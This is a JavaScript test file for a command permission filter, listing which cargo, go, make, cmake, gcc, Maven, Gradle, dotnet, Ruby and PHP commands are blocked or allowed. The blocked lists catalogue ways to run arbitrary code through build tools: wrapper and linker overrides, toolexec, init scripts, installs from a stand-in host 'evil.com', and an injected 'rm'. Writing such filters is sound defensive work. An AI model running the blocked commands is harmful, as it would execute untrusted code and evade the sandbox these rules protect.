import { hazardCases } from './hazardCases.js';

hazardCases('compiled languages', {
  'cargo **': {
    blocks: `
      cargo --config build.rustc-wrapper=./x build
      cargo build --config x.toml
      cargo +nightly build
      cargo -Z unstable build
      cargo -C /tmp/e build
      cargo install evil
      cargo add evil
      cargo build --manifest-path /tmp/e/Cargo.toml
      cargo build --manifest-path=../e/Cargo.toml
      cargo build --target-dir /tmp/x
      cargo build --artifact-dir=x
      cargo watch -x run
      cargo rustc -- -Clinker=./x`,
    passes: `
      cargo build
      cargo b
      cargo test
      cargo test -p core a_test -- --nocapture
      cargo test --release
      cargo run
      cargo run --bin x -- --config y
      cargo clippy --all-targets -- -D warnings
      cargo fmt --check
      cargo check --workspace
      cargo build --manifest-path crates/a/Cargo.toml
      cargo tree -e features
      cargo doc --no-deps
      cargo test -j 4
      cargo --version
      cargo metadata --format-version 1`,
  },
  'rustc **': {
    blocks:
      'rustc -C linker=./x a.rs\nrustc -Clinker=./x a.rs\nrustc @x\nrustc --codegen linker=./x a.rs\nrustc -o /tmp/x a.rs',
    passes: 'rustc a.rs\nrustc -O a.rs\nrustc -C opt-level=3 a.rs\nrustc --version',
  },
  'go **': {
    blocks: `
      go test -exec ./x ./...
      go test -exec=./x ./...
      go test --exec=./x ./...
      go build -toolexec ./x
      go build -toolexec=./x
      go vet -vettool=./x
      go run .
      go run evil.com/x@latest
      go generate
      go generate ./...
      go install evil.com/x@latest
      go get evil.com/x
      go tool compile x
      go env -w GOFLAGS=-toolexec=./x
      go -C /tmp/e build
      go build -C /tmp/e
      go build -overlay x.json
      go build -modfile=x.mod
      go build -o /tmp/x
      go build -ldflags=-extld=./x
      go test -coverprofile=/tmp/x
      go mod edit -replace a=../b
      go work use /tmp/e`,
    passes: `
      go build ./...
      go build -o bin/app ./cmd/app
      go test ./...
      go test -run TestExec ./...
      go test -run -exec ./...
      go test -run=X -count=1 -v ./pkg
      go test -race -cover ./...
      go vet ./...
      go fmt ./...
      go mod tidy
      go mod graph
      go list -m all
      go version
      go env GOPATH
      go doc fmt
      go build -ldflags=-s
      go test -coverprofile=cover.out ./...
      go clean -cache`,
  },
  'make **': {
    blocks: `
      make SHELL=./x
      make test SHELL=./x
      make CC=./x
      make -f evil.mk
      make -fevil.mk
      make -kf evil.mk
      make --file=evil.mk
      make --makefile evil.mk
      make --makef=evil.mk
      make -C /tmp/e
      make --directory=/tmp/e
      make --eval='x:;rm y'
      make --eva=x
      make -I /tmp/e
      make -e test
      make 'X:=1'
      make X+=1
      make 'X?=1'
      make 'A != x'
      make -- SHELL=./x`,
    passes: `
      make
      make test
      make -j4 test
      make -j 4 all
      make -n test
      make -k check
      make -s build
      make --no-print-directory test
      make -B all`,
  },
  'make * V=1': { passes: 'make test V=1' },
  'make test FILE=*': { passes: 'make test FILE=a' },
  'cmake **': {
    blocks:
      'cmake -P x.cmake\ncmake -E rm x\ncmake -C x.cmake .\ncmake -DCMAKE_C_COMPILER=./x .\ncmake -D CMAKE_CXX_COMPILER_LAUNCHER=./x .\ncmake --toolchain x .\ncmake --build /tmp/e\ncmake --build build -- -f x\ncmake -B /tmp/x',
    passes:
      'cmake -S . -B build\ncmake --build build -j 4\ncmake -DCMAKE_BUILD_TYPE=Release .\ncmake --build build --target test\ncmake -G Ninja -B build\ncmake --build build -- -j4\ncmake --version',
  },
  'ninja **': { blocks: 'ninja -f x\nninja -C /tmp/e', passes: 'ninja\nninja -C build\nninja -j 4 test' },
  'gcc **': {
    blocks: 'gcc -wrapper ./x a.c\ngcc -fplugin=./x a.c\ngcc -specs=x a.c\ngcc @x\ngcc -o /tmp/x a.c',
    passes: 'gcc -O2 -o a a.c\ngcc -c a.c\ngcc -Wall -Iinclude a.c',
  },
  'just **': {
    blocks: 'just -f x\njust --justfile=x\njust --shell sh x\njust -d /tmp x\njust A=1 x',
    passes: 'just\njust test\njust --list',
  },
  'rake **': { blocks: 'rake -f x\nrake -r x\nrake -e x', passes: 'rake test\nrake -T' },
  'bazel **': {
    blocks: 'bazel run //x\nbazel --bazelrc=x build //x\nbazel test --run_under=./x //x',
    passes: 'bazel build //...\nbazel test //x --test_output=all',
  },
});

hazardCases('other languages', {
  'mvn **': {
    blocks:
      'mvn exec:java\nmvn -f /tmp/e/pom.xml test\nmvn -s x.xml test\nmvn -Dexec.executable=sh exec:exec\nmvn -Dexec.mainClass=x test\nmvn org.codehaus.mojo:exec-maven-plugin:3.0:exec\nmvn --file=x test\nmvn -gs x test\nmvn -DargLine=-javaagent:x test',
    passes:
      'mvn test\nmvn -q -DskipTests package\nmvn -pl core -am verify\nmvn dependency:tree\nmvn -Dtest=FooTest test\nmvn clean install -T 4\nmvn -B -ntp verify\nmvn versions:display-dependency-updates',
  },
  'gradle **': {
    blocks:
      'gradle -I x test\ngradle --init-script=x test\ngradle -p /tmp/e test\ngradle -b x test\ngradle -c x test\ngradle -g x test\ngradle -Dorg.gradle.jvmargs=x test\ngradle init',
    passes:
      'gradle test\ngradle build -x test\ngradle test --tests a.B\ngradle --no-daemon -q build\ngradle -Pversion=1 build\ngradle tasks',
  },
  './gradlew **': { blocks: './gradlew -I x test', passes: './gradlew test' },
  'dotnet **': {
    blocks:
      'dotnet fsi x\ndotnet exec x.dll\ndotnet x.dll\ndotnet tool install x\ndotnet test --logger x\ndotnet build @x\ndotnet build -p CustomBeforeMicrosoftCommonProps=x\ndotnet build -p:CustomBeforeMicrosoftCommonProps=x\ndotnet add package x\ndotnet test --test-adapter-path x',
    passes:
      'dotnet build\ndotnet test --filter A\ndotnet build -c Release\ndotnet run --project src/App\ndotnet --version\ndotnet test --no-build -v q\ndotnet publish -o out',
  },
  'gem **': {
    blocks: 'gem install x\ngem exec x\ngem update\ngem list --config-file x',
    passes: 'gem list\ngem --version\ngem search x',
  },
  'bundle **': {
    blocks: 'bundle exec x\nbundle console\nbundle add x\nbundle config set x y\nbundle install --gemfile=/tmp/e',
    passes: 'bundle install\nbundle check\nbundle list\nbundle config get x',
  },
  'rspec **': {
    blocks: 'rspec -r ./x\nrspec -I lib\nrspec -O x\nrspec -f ./x',
    passes: 'rspec\nrspec spec/a_spec.rb:12\nrspec -f documentation\nrspec -e foo',
  },
  'composer **': {
    blocks:
      'composer require x\ncomposer global require x\ncomposer -d /tmp/e install\ncomposer exec x\ncomposer config x y',
    passes: 'composer install\ncomposer validate\ncomposer show\ncomposer run-script test',
  },
  'phpunit **': {
    blocks: 'phpunit --bootstrap x\nphpunit -c x\nphpunit --printer x',
    passes: 'phpunit\nphpunit --filter x tests',
  },
});
